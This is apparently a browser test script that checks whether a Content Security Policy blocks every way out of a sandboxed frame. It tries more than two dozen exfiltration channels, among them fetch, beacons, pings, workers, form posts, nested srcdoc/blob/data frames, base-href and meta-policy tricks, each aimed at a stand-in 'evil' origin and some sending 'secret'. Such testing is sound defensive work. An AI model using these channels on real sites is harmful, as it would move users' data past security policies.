// Every way out of a frame that a content policy covers, tried from the frame. `args.evil` is the origin they lead to.
const settle = (promise) => within(Promise.resolve(promise), 'an attempt', 8000).catch(() => {});
const element = (name, attributes, parent = document.head) => new Promise((resolve) => {
  const made = document.createElement(name);
  made.onload = made.onerror = made.onloadeddata = resolve;
  Object.assign(made, attributes);
  parent.append(made);
});
const url = (way) => `${args.evil}/${way}`;
const refused = (kinds) => new Promise((resolve) => addEventListener('securitypolicyviolation', (event) => {
  if (kinds.some((kind) => event.effectiveDirective.startsWith(kind))) resolve();
}));
// A document that goes out by itself, and says when it has tried.
const spy = (way, head = '') => `<!doctype html>${head}<script>fetch('${url(way)}').catch(() => {}).then(() => parent.postMessage('${way}', '*'))</script>`;
const nested = (way, attributes) => {
  const said = once(self, 'message', (event) => event.data === way);
  const blocked = refused(['frame', 'child', 'default']);
  element('iframe', attributes, document.body);
  // Where such a frame may not be at all, nothing is said; the others' violations may come as well, and mean nothing.
  return Promise.race([said, blocked.then(() => within(said, way, 1500).catch(() => {}))]);
};
const page = (html) => `data:text/html,${encodeURIComponent(html)}`;
const ways = {
  fetch: () => fetch(url('fetch')),
  nocors: () => fetch(url('nocors'), { mode: 'no-cors', method: 'POST', body: 'secret' }),
  xhr: () => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onloadend = resolve;
    request.open('POST', url('xhr'));
    request.send('secret');
  }),
  image: () => element('img', { src: url('image.svg') }),
  script: () => element('script', { src: url('script.js') }),
  style: () => element('link', { rel: 'stylesheet', href: url('style.css') }),
  // Firefox takes an inline sheet of the same text for the same sheet, with what it could not load in another document.
  inline: () => Promise.all([
    element('style', { textContent: `@import url("${url('imported.css')}"); /* ${Math.random()} */` }),
    element('style', { textContent: `body { background: url("${url('background.svg')}") } /* ${Math.random()} */` }).then(() => fetch('kept.txt')),
  ]),
  prefetch: () => Promise.race([element('link', { rel: 'prefetch', href: url('prefetch') }), refused(['prefetch', 'default'])]),
  preload: () => element('link', { rel: 'preload', as: 'image', href: url('preload.svg') }),
  import: () => import(url('module.mjs')),
  frame: () => Promise.race([element('iframe', { src: url('frame') }, document.body), refused(['frame', 'child', 'default'])]),
  object: () => Promise.race([element('object', { data: url('object'), type: 'text/html' }, document.body), refused(['object', 'default'])]),
  video: () => element('video', { src: url('video'), preload: 'auto' }, document.body),
  socket: () => new Promise((resolve) => { const socket = new WebSocket(url('socket').replace('http', 'ws')); socket.onerror = socket.onclose = resolve; }),
  events: () => new Promise((resolve) => { const source = new EventSource(url('events')); source.onerror = () => { source.close(); resolve(); }; source.onopen = source.onerror; }),
  worker: () => new Promise((resolve) => {
    const code = `(async () => { try { importScripts('${url('in-worker-script.js')}'); } catch {} try { await fetch('${url('in-worker')}'); } catch {} postMessage(0); })()`;
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    worker.onmessage = worker.onerror = resolve;
  }),
  filed: () => new Promise((resolve) => { const worker = new Worker('worker.js'); worker.onmessage = worker.onerror = resolve; worker.postMessage(args.evil); }),
  form: () => new Promise((resolve) => {
    const target = document.body.appendChild(Object.assign(document.createElement('iframe'), { name: 'target' }));
    refused(['form']).then(resolve);
    target.onload = () => { if (started) resolve(); };
    const form = Object.assign(document.createElement('form'), { action: url('form'), method: 'post', target: 'target' });
    let started = false;
    document.body.append(form);
    started = true;
    form.submit();
  }),
  font: () => new FontFace('probe', `url(${url('font')})`).load(),
  // There is no event of a beacon; the answer to a later request of the frame's own comes after it has gone.
  beacon: () => { navigator.sendBeacon(url('beacon'), 'secret'); return fetch('kept.txt').then(() => fetch('kept.txt')); },
  // Nor of a click's ping.
  ping: () => {
    element('iframe', { name: 'pinged' }, document.body);
    document.body.appendChild(Object.assign(document.createElement('a'), { href: 'kept.txt', ping: url('ping'), target: 'pinged' })).click();
    return fetch('kept.txt').then(() => fetch('kept.txt'));
  },
  // Inner documents: the session's own, and such as have no address. A looser policy of their own adds to ours, and takes nothing away.
  inner: () => nested('inner', { src: `inner.html#${url('inner')}` }),
  srcdoc: () => nested('srcdoc', { srcdoc: spy('srcdoc') }),
  loosened: () => nested('loosened', { srcdoc: spy('loosened', '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">') }),
  sandboxed: () => nested('sandboxed', { sandbox: 'allow-scripts', srcdoc: spy('sandboxed') }),
  blob: () => nested('blob', { src: URL.createObjectURL(new Blob([spy('blob')], { type: 'text/html' })) }),
  data: () => nested('data', { src: page(spy('data')) }),
  turned: () => nested('turned', { srcdoc: `<!doctype html><script>location = ${JSON.stringify(page(spy('turned'))).replaceAll('<', '\\x3c')}</script>` }),
  based: () => nested('based', {
    srcdoc: `<!doctype html><base href="${url('')}"><img src="based.svg"><script>const image = document.images[0]; image.onload = image.onerror = () => parent.postMessage('based', '*'); if (image.complete) image.onload();</script>`,
  }),
  // What the VFS origin has of its own is no way around, either: a frame of it would be of this origin.
  ...Object.fromEntries(['/_vf/hello', '/_vf/sessions', '/sw.js'].map((path, index) => [`framed${index}`, async () => {
    const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { src: path }));
    await within(once(frame, 'load'), 'the frame of an asset', 3000).catch(() => {});
    // It is of another origin where it is refused.
    await frame.contentWindow.fetch(url(`framed${index}`), { mode: 'no-cors' });
  }])),
  // The last: what is relative after it leads elsewhere, where it may.
  here: () => {
    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: 'img-src *; connect-src *' }));
    document.head.prepend(Object.assign(document.createElement('base'), { href: url('') }));
    return element('img', { src: 'based-here.svg' });
  },
};
const { prefetch, ...others } = ways;
/** Whether the policy refuses what no server here could answer; null where the engine has no such thing. */
const transported = async () => {
  if (!self.WebTransport) return null;
  const kept = new URL('kept.txt', document.baseURI);
  const stopped = new Promise((resolve) => addEventListener('securitypolicyviolation', (event) => {
    if (event.blockedURI.endsWith('/transport')) resolve(true);
  }));
  const tried = new Promise((resolve) => resolve(new WebTransport(url('transport').replace('http:', 'https:')).ready));
  return Promise.race([stopped, settle(tried).then(() => fetch(kept)).then(() => false)]);
};
const transport = transported();
const prefetches = document.createElement('link').relList.supports('prefetch');
// Firefox fetches ahead only while nothing else loads, so this goes alone. An engine without it fires nothing.
const ahead = settle(prefetch());
if (prefetches) await ahead;
await Promise.all(Object.values(others).map(async (go) => {
  try { await settle(go()); } catch {}
}));
return { prefetches, transport: await transport };
